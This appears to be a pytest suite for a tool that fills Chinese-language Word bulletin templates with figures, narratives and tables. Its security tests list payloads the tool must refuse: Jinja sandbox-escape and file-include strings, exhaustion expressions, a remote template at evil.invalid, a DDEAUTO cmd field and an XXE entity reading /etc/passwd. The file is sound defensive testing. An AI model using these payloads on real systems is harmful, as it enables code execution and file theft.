import io
import zipfile
from dataclasses import replace

import docx
import pytest
from docx.oxml.ns import qn

from shanhai.kernel.documents.inline import line
from shanhai.kernel.documents.model import Paragraph
from shanhai.kernel.documents.reread import Reading, numbers_in_docx
from shanhai.kernel.documents.template import fill_template
from shanhai.kernel.documents.template_guard import TemplateFault


def template(*paragraphs, header="", cell=""):
    """A Word file as a user would type it."""
    word = docx.Document()
    for words in paragraphs:
        word.add_paragraph(words)
    if header:
        word.sections[0].header.paragraphs[0].text = header
    if cell:
        word.add_table(1, 1).cell(0, 0).text = cell
    return saved(word)


def saved(word):
    target = io.BytesIO()
    word.save(target)
    return target.getvalue()


def repacked(package, changes):
    """The package with entries replaced or added."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as source, zipfile.ZipFile(target, "w") as result:
        for name in source.namelist():
            if name not in changes:
                result.writestr(name, source.read(name))
        for name, content in changes.items():
            result.writestr(name, content)
    return target.getvalue()


def text_of(package):
    word = docx.Document(io.BytesIO(package))
    return [
        "".join(piece.text or "" for piece in paragraph.iter(qn("w:t")))
        for paragraph in word.element.body.iter(qn("w:p"))
    ]


def test_words_of_the_head_are_filled_in_both_spellings(bulletin):
    filled = fill_template(template("{{ 标题 }}|{{ 文号 }}|{{ 日期 }}", "{{ number }}|{{ date }}"), bulletin)
    assert text_of(filled)[:2] == [
        f"{bulletin.title}|{bulletin.number}|2021年9月24日",
        f"{bulletin.number}|2021年9月24日",
    ]


def test_a_figure_asked_for_by_name_stays_bound(bulletin):
    filled = fill_template(
        template("就业{{ f('LAB-1') }}{{ unit('LAB-1') }}，完成{{ 数据('fig-3') }}%。"), bulletin
    )
    assert text_of(filled)[0] == "就业1,284人，完成102.7%。"
    assert numbers_in_docx(filled) == [Reading("fig-1", "1,284"), Reading("fig-3", "102.7")]


def test_a_figure_takes_the_format_of_the_placeholder(bulletin):
    word = docx.Document()
    paragraph = word.add_paragraph("就业")
    paragraph.add_run("{{ f('LAB-1') }}人").bold = True
    paragraph.add_run("。")
    body = docx.Document(io.BytesIO(fill_template(saved(word), bulletin))).element.body
    bold = [
        "".join(piece.text for piece in run.iter(qn("w:t")))
        for run in body.iter(qn("w:r"))
        if run.find(f".//{qn('w:b')}") is not None
    ]
    assert bold == ["1,284", "人"]


def test_quotes_that_word_made_curly_are_understood(bulletin):
    filled = fill_template(template("{{ f(‘LAB-1’) }}", "{{ f(“LAB-2”) }}"), bulletin)
    assert [reading.display for reading in numbers_in_docx(filled)] == ["1,284", "933"]


def test_a_placeholder_that_word_cut_into_runs_is_understood(bulletin):
    word = docx.Document()
    paragraph = word.add_paragraph()
    for piece in ("就业{", "{ f('LA", "B-1') }", "}人"):
        paragraph.add_run(piece)
    assert text_of(fill_template(saved(word), bulletin))[0] == "就业1,284人"


def test_a_narrative_takes_the_place_of_its_paragraph_with_all_figures(bulletin):
    filled = fill_template(template("前", "{{ 叙述('劳务协作') }}", "后"), bulletin)
    text = text_of(filled)
    assert text[0] == "前"
    assert text[-1] == "后"
    assert text[1] == "一、劳务协作"
    assert len(numbers_in_docx(filled)) == 5


def test_a_table_takes_the_place_of_its_paragraph(bulletin):
    filled = fill_template(template("{{ table('指标') }}"), bulletin)
    tables = docx.Document(io.BytesIO(filled)).tables
    assert [len(table.rows) for table in tables] == [12]
    assert len(numbers_in_docx(filled)) == 34


def test_placeholders_in_cells_and_words_in_headers_are_filled(bulletin):
    filled = fill_template(template("正文", header="{{ issuer }}", cell="{{ f('LAB-2') }}"), bulletin)
    word = docx.Document(io.BytesIO(filled))
    assert word.sections[0].header.paragraphs[0].text == bulletin.issuer
    assert numbers_in_docx(filled) == [Reading("fig-2", "933")]


def test_conditions_and_a_loop_over_recipients_work(bulletin):
    filled = fill_template(
        template(
            *(
                "{%p if 有('劳务协作') %}",
                "有劳务",
                "{%p endif %}",
                "{%p if not has('文旅') %}",
                "无文旅",
                "{%p endif %}",
            ),
            *("{%p for unit_name in 主送 %}", "送{{ unit_name }}", "{%p endfor %}"),
        ),
        bulletin,
    )
    assert text_of(filled) == ["有劳务", "无文旅", "送各镇（街道）", "送区直有关单位"]


def test_words_of_the_document_are_never_read_as_placeholders_or_markup(bulletin):
    attack = "<w:br/>{{ f('LAB-1') }} {% for %} &amp;"
    filled = fill_template(
        template("{{ 标题 }}", "{{ 叙述('甲') }}"),
        replace(bulletin, title=attack, blocks=(*bulletin.blocks, Paragraph(line(attack), slot="甲"))),
    )
    assert text_of(filled) == [attack, attack]


def test_equal_input_gives_equal_bytes(bulletin):
    source = template("{{ 标题 }}", "{{ 叙述('劳务协作') }}", "{{ table('指标') }}")
    assert fill_template(source, bulletin) == fill_template(source, bulletin)


@pytest.mark.parametrize(
    ("placeholder", "named"),
    [
        ("{{ f('LAB-9') }}", "f('LAB-9')」没有对应的数据"),
        ("{{ 叙述('文旅') }}", "叙述('文旅')」没有对应的数据"),
        ("{{ 题目 }}", "题目」没有对应的内容"),
        ("{{ f(标题) }}", "f(标题)」用了不允许的写法"),
        ("{{ f('LAB-1' }}", "写法不完整"),
        ("{% if 标题 %}", "写法不完整"),
    ],
)
def test_a_wrong_placeholder_is_named_in_the_refusal(bulletin, placeholder, named):
    with pytest.raises(TemplateFault) as refusal:
        fill_template(template(placeholder), bulletin)
    assert named in str(refusal.value)


def test_all_wrong_placeholders_are_named_at_once(bulletin):
    with pytest.raises(TemplateFault, match=r"LAB-8.*LAB-9"):
        fill_template(template("{{ f('LAB-8') }}", "{{ f('LAB-9') }}"), bulletin)


def test_a_name_that_two_figures_bear_is_not_guessed(bulletin, figure):
    twins = Paragraph(line(figure(1, name="X"), figure(2, name="X")))
    with pytest.raises(TemplateFault, match="没有对应的数据"):
        fill_template(template("{{ f('X') }}"), replace(bulletin, blocks=(twins,)))


@pytest.mark.parametrize(
    "attack",
    [
        "{{ ''.__class__ }}",
        "{{ 标题.__class__.__mro__ }}",
        "{{ f.__globals__ }}",
        "{{ f('LAB-1').__class__ }}",
        "{{ self._TemplateReference__context }}",
        "{{ 标题['__class__'] }}",
        "{{ 标题|attr('__class__') }}",
        "{{ 'a' * 999999999 }}",
        "{{ 9 ** 9 ** 9 }}",
        "{{ range(999999999) }}",
        "{{ lipsum() }}",
        "{% for a in 主送 %}{% for b in 主送 %}x{% endfor %}{% endfor %}",
        "{% for a in '大' * 99 %}x{% endfor %}",
        "{% set x = 1 %}",
        "{% macro m() %}{% endmacro %}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{{ f(*主送) }}",
    ],
)
def test_no_placeholder_reaches_python_or_runs_for_long(bulletin, attack):
    with pytest.raises(TemplateFault):
        fill_template(template(attack), bulletin)


def test_attacks_in_headers_and_file_properties_are_refused_too(bulletin):
    with pytest.raises(TemplateFault):
        fill_template(template("好", header="{{ ''.__class__ }}"), bulletin)
    word = docx.Document()
    word.core_properties.title = "{{ ''.__class__ }}"
    with pytest.raises(TemplateFault):
        fill_template(saved(word), bulletin)


def test_figures_outside_the_body_are_refused(bulletin):
    with pytest.raises(TemplateFault, match="页眉"):
        fill_template(template("好", header="{{ f('LAB-1') }}"), bulletin)


def test_figures_in_text_boxes_are_refused(bulletin):
    word = docx.Document()
    box, inner = docx.oxml.OxmlElement("w:txbxContent"), docx.Document().add_paragraph("{{ f('LAB-1') }}")._p
    box.append(inner)
    word.add_paragraph("好").runs[0]._r.append(box)
    with pytest.raises(TemplateFault, match="文本框"):
        fill_template(saved(word), bulletin)


def test_a_narrative_in_the_middle_of_a_sentence_is_refused(bulletin):
    with pytest.raises(TemplateFault, match="单独成段"):
        fill_template(template("如下{{ 叙述('劳务协作') }}"), bulletin)


def test_what_is_no_word_file_is_refused(bulletin):
    empty = io.BytesIO()
    zipfile.ZipFile(empty, "w").close()
    for content in (
        b"",
        b"PK\x03\x04",
        empty.getvalue(),
        repacked(template("好"), {"word/document.xml": b"<w:"}),
    ):
        with pytest.raises(TemplateFault, match="不是"):
            fill_template(content, bulletin)


def test_macros_are_refused(bulletin):
    with pytest.raises(TemplateFault, match="宏"):
        fill_template(repacked(template("好"), {"word/vbaProject.bin": b"x"}), bulletin)


def test_a_template_that_fetches_from_elsewhere_is_refused(bulletin):
    office = "http://schemas.openxmlformats.org"
    relations = (
        f'<Relationships xmlns="{office}/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{office}/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://evil.invalid/a.dotm" TargetMode="External"/></Relationships>'
    )
    with pytest.raises(TemplateFault, match=r"evil\.invalid"):
        fill_template(repacked(template("好"), {"word/_rels/settings.xml.rels": relations}), bulletin)


def test_fields_that_read_other_files_are_refused_even_when_cut_into_runs(bulletin):
    word = docx.Document()
    paragraph = word.add_paragraph()
    for piece in ("DDE", "AUTO cmd"):
        instruction = docx.oxml.OxmlElement("w:instrText")
        instruction.text = piece
        paragraph.add_run()._r.append(instruction)
    with pytest.raises(TemplateFault, match="DDEAUTO"):
        fill_template(saved(word), bulletin)


def test_entities_and_oversized_packages_are_refused(bulletin):
    bomb = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    with pytest.raises(TemplateFault, match="文档类型声明"):
        fill_template(repacked(template("好"), {"word/comments.xml": bomb}), bulletin)
    with pytest.raises(TemplateFault, match="过大"):
        fill_template(repacked(template("好"), {"word/media/a.bin": b"0" * (21 * 1024 * 1024)}), bulletin)
